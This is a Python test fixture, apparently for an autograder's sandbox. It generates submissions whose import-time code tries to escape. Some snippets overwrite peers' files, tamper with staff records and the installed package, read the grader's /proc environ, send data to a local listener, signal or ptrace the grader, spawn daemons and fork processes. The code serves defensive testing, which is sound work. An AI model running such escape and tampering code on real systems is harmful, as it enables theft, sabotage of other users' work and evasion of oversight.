"""A hostile class: submissions whose gradients are right but whose modules, at import, try to
reach outside their own copy. Each attempt prints ``ATTEMPT <name>: <what it got>`` (so that a
test can tell the attempt ran, and the docs can quote what it got); whether it changed anything
is judged from outside, by the test.

The snippets are written so that, were the sandbox to fail, they would do no harm beyond this
test's own files and processes: they write only to the test's paths and to the installed
handgrad (a comment line carrying the tag), they signal only the test's own process, and their
processes carry the tag in their names so that the test can find (and kill) survivors.
"""

from __future__ import annotations

HEADER = '''
import ctypes, glob, os, signal, socket, sys, time

_libc = ctypes.CDLL(None, use_errno=True)


def _attempt(name, fn):
    try:
        got = fn()
    except BaseException as exc:
        got = f"{type(exc).__name__}: {exc}"
    print(f"ATTEMPT {name}: {got}", flush=True)


def _proc_paths():
    """Folders named on the command lines of every process this one can see."""
    found = set()
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            parts = open(cmdline, "rb").read().split(b"\\0")
        except OSError:
            continue
        found |= {p.decode(errors="replace") for p in parts if p.startswith(b"/")}
    return sorted(p for p in found if os.path.isdir(p) and p != os.getcwd())


def _libc_call(name, *args):
    if getattr(_libc, name)(*args) == -1:
        errno = ctypes.get_errno()
        raise OSError(errno, os.strerror(errno))
    return "succeeded"
'''

ATTEMPTS = {
    # other students' folders, found through /proc and named outright
    "peers": '''
def _peers():
    found = _proc_paths()
    wrote = []
    for folder in found + ["@PEERDIR@"]:
        try:
            with open(os.path.join(folder, "layers.py"), "w") as f:
                f.write("raise SystemExit('overwritten by a peer')\\n")
            wrote.append(folder)
        except OSError as exc:
            wrote.append(f"{folder}: {type(exc).__name__}")
    return f"folders seen in /proc: {found}; writes: {wrote}"


_attempt("peers", _peers)
''',
    # the staff's record file: edit it for every later run
    "staff-edit": '''
def _staff_edit():
    with open("@STAFF@", "a") as f:
        f.write("\\nRECORDS = []\\n")
    return "appended to the staff's records"


_attempt("staff-edit", _staff_edit)
''',
    # the installed handgrad: code of its own in every later run
    "installation": '''
def _installation():
    import importlib.util

    origin = importlib.util.find_spec("handgrad").origin
    with open(origin, "a") as f:
        f.write("# hostile @TAG@\\n")
    return f"appended to {origin}"


def _installation_new_file():
    import importlib.util

    folder = os.path.dirname(importlib.util.find_spec("handgrad").origin)
    with open(os.path.join(folder, "hostile_@TAG@.py"), "w") as f:
        f.write("print('hostile')\\n")
    return "added a module to handgrad"


_attempt("installation", _installation)
_attempt("installation-new-file", _installation_new_file)
''',
    # the network: tell a listener on the grader's machine what it found
    "network": '''
def _network():
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as s:
        s.sendall(b"staff files: @STAFF@")
    return "sent to 127.0.0.1:@PORT@"


_attempt("network", _network)
''',
    # a double-forked daemon in a session of its own, meant to outlive the grade
    "daemon": '''
def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _libc.prctl(15, b"hgd@TAG@", 0, 0, 0)  # PR_SET_NAME: findable from outside
            time.sleep(30)
            for path in ("@LATE@", os.path.join(os.getcwd(), "late")):
                try:
                    open(path, "w").write("still here")
                except OSError:
                    pass
            os._exit(0)
        os._exit(0)
    os.wait()
    return "a daemon started"


_attempt("daemon", _daemon)
''',
    # reading what it must not see: the staff's files, a peer's, through /proc and symlinks
    "read": '''
def _read(path):
    return lambda: f"read {len(open(path).read())} characters: " + open(path).read()[:300]


_attempt("read-staff", _read("@STAFF@"))
_attempt("read-peer", _read("@PEERDIR@/layers.py"))
_attempt("read-grader-environ", _read("/proc/@GRADER@/environ"))
_attempt("symlink-staff", _read(os.path.join(os.path.dirname(__file__), "escape-staff",
                                             "records.py")))
_attempt("symlink-root", _read(os.path.join(os.path.dirname(__file__), "escape-root",
                                            "@PEERDIR@".lstrip("/"), "layers.py")))
''',
    # the grader's process: signal it, attach to it
    "grader": '''
_attempt("signal-grader", lambda: (os.kill(@GRADER@, signal.SIGTERM), "signalled")[1])
_attempt("ptrace-grader", lambda: _libc_call("ptrace", 16, @GRADER@, 0, 0))  # PTRACE_ATTACH
_attempt("new-user-namespace", lambda: _libc_call("unshare", 0x10000000))  # CLONE_NEWUSER
''',
    # places shared with the grader: its /tmp (and its scratch folders there), its $HOME
    "shared-places": '''
def _tmp():
    open("/tmp/hg-@TAG@", "w").write("left in /tmp")
    return f"wrote /tmp/hg-@TAG@; /tmp holds {sorted(os.listdir('/tmp'))}"


def _home():
    open("@HOME@/.hg-@TAG@", "w").write("left in the grader's home")
    return "wrote @HOME@/.hg-@TAG@"


_attempt("tmp", _tmp)
_attempt("home", _home)
_attempt("devices", lambda: f"/dev holds {sorted(os.listdir('/dev'))}; " +
         str(open("/dev/mem", "rb").read(1)))
''',
    # many processes (bounded here; the caps and the namespace bound the real thing)
    "forks": '''
def _forks():
    children = 0
    for _ in range(48):
        pid = os.fork()
        if pid == 0:
            _libc.prctl(15, b"hgf@TAG@", 0, 0, 0)
            time.sleep(30)
            os._exit(0)
        children += 1
    return f"{children} children sleeping"


_attempt("forks", _forks)
''',
}

# every attempt's name, as it prints it
NAMES = ("peers", "staff-edit", "installation", "installation-new-file", "network", "daemon",
         "read-staff", "read-peer", "read-grader-environ", "symlink-staff", "symlink-root",
         "signal-grader", "ptrace-grader", "new-user-namespace", "tmp", "home", "devices",
         "forks")


def source(right: str, attempts: list[str], values: dict[str, str]) -> str:
    """A right submission's module that also makes ``attempts`` at import."""
    text = right + HEADER + "".join(ATTEMPTS[a] for a in attempts)
    for key, value in values.items():
        text = text.replace(f"@{key}@", value)
    return text
